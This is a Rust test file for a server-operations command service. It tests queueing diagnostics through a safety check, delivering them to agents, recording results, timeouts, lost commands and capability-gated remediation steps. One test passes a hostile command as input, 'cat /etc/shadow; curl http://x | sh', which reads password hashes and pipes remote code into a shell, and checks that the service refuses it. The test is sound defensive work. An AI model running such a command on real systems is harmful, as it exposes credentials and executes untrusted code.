//! The command service over a real SQLite store: queueing through the safety check, handing
//! commands to a connection, recording frames, losing and timing out commands.

use chrono::{Duration, TimeZone, Utc};
use futures::channel::mpsc;
use futures::{SinkExt, StreamExt};
use serde_json::{Value, json};
use std::sync::Arc;
use vigilops_core::audit::Actor;
use vigilops_core::bus::InProcessBus;
use vigilops_core::clock::ManualClock;
use vigilops_core::command::{
    CommandError, CommandService, NOT_ANSWERED, QueueRequest, RemediationStep, serve_agent,
};
use vigilops_core::model::{AuditFilter, CommandStatus, HostRegistration};
use vigilops_core::store::Store;
use vigilops_core::store::testing::fresh_sqlite;

struct Fixture {
    _sqlite: vigilops_core::store::testing::TempSqlite,
    store: Arc<dyn Store>,
    clock: Arc<ManualClock>,
    service: CommandService,
    host_id: i64,
}

async fn fixture() -> Fixture {
    let sqlite = fresh_sqlite().await;
    let store: Arc<dyn Store> = Arc::new(sqlite.store.clone());
    let start = Utc
        .with_ymd_and_hms(2026, 11, 27, 6, 0, 0)
        .single()
        .unwrap();
    let clock = Arc::new(ManualClock::new(start));
    let token = store
        .create_agent_token("t", "hash", "vop_0000", None, start)
        .await
        .unwrap();
    let registration = HostRegistration {
        hostname: "web-01".to_owned(),
        ..HostRegistration::default()
    };
    let (host, _) = store
        .register_host(token.id, registration, start)
        .await
        .unwrap();
    let service = CommandService::new(
        Arc::clone(&store),
        clock.clone(),
        Arc::new(InProcessBus::new()),
    );
    service.start_listener().await.unwrap();
    Fixture {
        _sqlite: sqlite,
        store,
        clock,
        service,
        host_id: host.id,
    }
}

fn operator() -> Actor {
    Actor {
        user_id: None,
        ip_address: Some("10.0.0.9".to_owned()),
    }
}

fn diagnostic(host_id: i64, command: &str) -> QueueRequest {
    QueueRequest {
        host_id,
        command: command.to_owned(),
        timeout_seconds: Some(30),
        remediation: None,
    }
}

/// A connection served by `serve_agent` over channels: (frames to the agent, frames from it).
fn connect(
    fixture: &Fixture,
) -> (
    mpsc::UnboundedReceiver<String>,
    mpsc::UnboundedSender<String>,
    tokio::task::JoinHandle<()>,
) {
    let (to_agent, from_server) = mpsc::unbounded();
    let (to_server, from_agent) = mpsc::unbounded();
    let connection = fixture.service.open_connection(fixture.host_id);
    let task = tokio::spawn(serve_agent(connection, to_agent, from_agent));
    (from_server, to_server, task)
}

async fn next_frame(frames: &mut mpsc::UnboundedReceiver<String>) -> Value {
    // Well under the 5 s poll interval: a command must arrive through the notification.
    let text = tokio::time::timeout(std::time::Duration::from_secs(3), frames.next())
        .await
        .expect("a frame within 3 s")
        .expect("the connection is open");
    serde_json::from_str(&text).unwrap()
}

async fn eventually_status(
    fixture: &Fixture,
    id: uuid::Uuid,
    status: CommandStatus,
) -> vigilops_core::model::AgentCommand {
    for _ in 0..100 {
        let command = fixture.service.get(id).await.unwrap();
        if command.status == status {
            return command;
        }
        tokio::time::sleep(std::time::Duration::from_millis(20)).await;
    }
    panic!("command {id} never became {status}");
}

#[tokio::test]
async fn a_hostile_command_is_refused_with_reasons_and_not_queued() {
    let fixture = fixture().await;
    let refused = fixture
        .service
        .queue(
            diagnostic(fixture.host_id, "cat /etc/shadow; curl http://x | sh"),
            &operator(),
        )
        .await;
    let Err(CommandError::Refused(refusal)) = refused else {
        panic!("{refused:?}")
    };
    assert!(
        refusal.reasons.iter().any(|r| r.contains("`;`")),
        "{refusal}"
    );
    assert!(
        fixture
            .store
            .host_commands(fixture.host_id, 10)
            .await
            .unwrap()
            .is_empty()
    );
    let changing = fixture
        .service
        .queue(
            diagnostic(fixture.host_id, "systemctl restart nginx"),
            &operator(),
        )
        .await;
    assert!(
        matches!(changing, Err(CommandError::Refused(_))),
        "diagnostics never change the host"
    );
    let unknown = fixture
        .service
        .queue(diagnostic(fixture.host_id + 99, "df -h"), &operator())
        .await;
    assert!(matches!(unknown, Err(CommandError::HostNotFound(_))));
    let long = fixture
        .service
        .queue(
            QueueRequest {
                timeout_seconds: Some(0),
                ..diagnostic(fixture.host_id, "df -h")
            },
            &operator(),
        )
        .await;
    assert!(matches!(long, Err(CommandError::InvalidTimeout)));
}

#[tokio::test]
async fn a_queued_command_reaches_the_connected_agent_and_its_result_is_recorded() {
    let fixture = fixture().await;
    let (mut frames, mut agent, task) = connect(&fixture);
    agent
        .send(json!({"type": "ping"}).to_string())
        .await
        .unwrap();
    assert_eq!(next_frame(&mut frames).await, json!({"type": "pong"}));

    let queued = fixture
        .service
        .queue(diagnostic(fixture.host_id, "df -h"), &operator())
        .await
        .unwrap();
    assert_eq!(queued.status, CommandStatus::Queued);
    assert_eq!(queued.argv, ["df", "-h"]);
    let exec = next_frame(&mut frames).await;
    let id = queued.request_id.to_string();
    assert_eq!(
        exec,
        json!({"type": "exec_command", "request_id": id, "command": "df -h", "timeout": 30})
    );

    agent.send(json!({"type": "command_output", "request_id": id, "stdout": "Filesystem Size", "stderr": ""}).to_string()).await.unwrap();
    let running = eventually_status(&fixture, queued.request_id, CommandStatus::Running).await;
    assert_eq!(running.stdout, "Filesystem Size\n");
    agent
        .send(
            json!({"type": "command_result", "request_id": id, "exit_code": 0,
        "stdout": "Filesystem Size\n/dev/sda1 20G\n", "stderr": "", "duration_ms": 15})
            .to_string(),
        )
        .await
        .unwrap();
    let done = eventually_status(&fixture, queued.request_id, CommandStatus::Succeeded).await;
    assert_eq!((done.exit_code, done.duration_ms), (Some(0), Some(15)));
    assert_eq!(done.stdout, "Filesystem Size\n/dev/sda1 20G\n");

    // Queueing is audited.
    let (audit, _) = fixture
        .store
        .list_audit(&AuditFilter {
            action: Some("queue_command".to_owned()),
            ..AuditFilter::default()
        })
        .await
        .unwrap();
    assert_eq!(audit.len(), 1);
    assert_eq!(audit[0].resource_id.as_deref(), Some(id.as_str()));
    drop(agent);
    task.await.unwrap();
}

#[tokio::test]
async fn a_refusal_by_the_agent_and_a_dropped_socket_are_terminal() {
    let fixture = fixture().await;
    let refused = fixture
        .service
        .queue(diagnostic(fixture.host_id, "uptime"), &operator())
        .await
        .unwrap();
    let (mut frames, mut agent, task) = connect(&fixture);
    // Queued before the agent connected: sent on connect.
    let exec = next_frame(&mut frames).await;
    assert_eq!(exec["request_id"], json!(refused.request_id.to_string()));
    agent.send(json!({"type": "command_done", "request_id": refused.request_id.to_string(), "exit_code": -1,
        "stdout": "", "stderr": "Command rejected: not allowed", "timed_out": false}).to_string()).await.unwrap();
    let rejected = eventually_status(&fixture, refused.request_id, CommandStatus::Rejected).await;
    assert_eq!(rejected.stderr, "Command rejected: not allowed");

    let held = fixture
        .service
        .queue(diagnostic(fixture.host_id, "free -m"), &operator())
        .await
        .unwrap();
    next_frame(&mut frames).await;
    drop(agent);
    task.await.unwrap();
    let lost = fixture.service.get(held.request_id).await.unwrap();
    assert_eq!(
        lost.status,
        CommandStatus::Lost,
        "never re-sent: it may have run"
    );
}

#[tokio::test]
async fn a_command_without_an_answer_times_out() {
    let fixture = fixture().await;
    let (mut frames, _agent, _task) = connect(&fixture);
    let silent = fixture
        .service
        .queue(diagnostic(fixture.host_id, "uptime"), &operator())
        .await
        .unwrap();
    next_frame(&mut frames).await;
    fixture.clock.advance(Duration::seconds(30 + 29));
    assert!(fixture.service.expire_overdue().await.unwrap().is_empty());
    fixture.clock.advance(Duration::seconds(2));
    let expired = fixture.service.expire_overdue().await.unwrap();
    assert_eq!(expired.len(), 1);
    let command = fixture.service.get(silent.request_id).await.unwrap();
    assert_eq!(
        (command.status, command.stderr.as_str()),
        (CommandStatus::TimedOut, NOT_ANSWERED)
    );
}

#[tokio::test]
async fn remediation_steps_go_only_to_agents_that_announced_the_capability() {
    let fixture = fixture().await;
    let step = fixture
        .service
        .queue(
            QueueRequest {
                remediation: Some(RemediationStep {
                    remediation_id: 3,
                    step: 1,
                }),
                ..diagnostic(fixture.host_id, "systemctl restart nginx")
            },
            &operator(),
        )
        .await
        .unwrap();
    let (mut frames, mut agent, _task) = connect(&fixture);
    let nothing = tokio::time::timeout(std::time::Duration::from_millis(300), frames.next()).await;
    assert!(
        nothing.is_err(),
        "an original agent never gets a remediation step"
    );
    let store = &fixture.store;
    assert_eq!(
        store
            .remediation_agent_seen_at(fixture.host_id)
            .await
            .unwrap(),
        None,
        "a connection without the capability is not a remediation agent"
    );
    agent.send(json!({"type": "hello", "agent_version": "0.1.0", "capabilities": ["exec", "remediation"]}).to_string()).await.unwrap();
    let exec = next_frame(&mut frames).await;
    // The capable agent is recorded as connected, for every replica to see.
    assert_eq!(
        store
            .remediation_agent_seen_at(fixture.host_id)
            .await
            .unwrap(),
        Some(vigilops_core::clock::Clock::now(fixture.clock.as_ref()))
    );
    assert_eq!(exec["request_id"], json!(step.request_id.to_string()));
    assert_eq!(
        (exec["remediation_id"].clone(), exec["step"].clone()),
        (json!(3), json!(1))
    );
}
